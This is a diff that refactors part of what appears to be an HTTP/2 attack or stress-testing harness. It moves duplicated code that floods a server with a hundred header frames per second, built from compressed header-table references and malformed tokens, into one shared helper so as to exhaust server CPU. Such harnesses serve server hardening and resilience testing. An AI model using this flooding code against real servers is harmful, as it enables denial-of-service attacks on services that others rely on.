@@ -513,6 +513,17 @@ def window_settings(run):
     storm(run, connect, do)
 
 
+def send_references(attacker):
+    """A hundred calls with the same header block."""
+    first = 2 * attacker.opened - 1
+    attacker.opened += 100
+    attacker.write(b"".join(
+        frame(HEADERS, END_HEADERS | END_STREAM, first + 2 * i, attacker.references)
+        for i in range(100)),
+                   seconds=1)
+    attacker.read(0)
+
+
 @attack()
 def header_cpu(run):
     """Calls with the longest header lists: hundreds of references of one byte to short entries."""
@@ -526,16 +537,7 @@ def header_cpu(run):
                                             end=True)[1][9:]  # all are in the table
         return attacker
 
-    def do(attacker):
-        first = 2 * attacker.opened - 1
-        attacker.opened += 100
-        attacker.write(b"".join(
-            frame(HEADERS, END_HEADERS | END_STREAM, first + 2 * i, attacker.references)
-            for i in range(100)),
-                       seconds=1)
-        attacker.read(0)
-
-    storm(run, connect, do)
+    storm(run, connect, send_references)
 
 
 @attack()
@@ -555,16 +557,7 @@ def many_tokens(run):
         attacker.references = attacker.head("Acquire", tokens)[1][9:] + malformed
         return attacker
 
-    def do(attacker):
-        first = 2 * attacker.opened - 1
-        attacker.opened += 100
-        attacker.write(b"".join(
-            frame(HEADERS, END_HEADERS | END_STREAM, first + 2 * i, attacker.references)
-            for i in range(100)),
-                       seconds=1)
-        attacker.read(0)
-
-    storm(run, connect, do)
+    storm(run, connect, send_references)
 
 
 @attack()
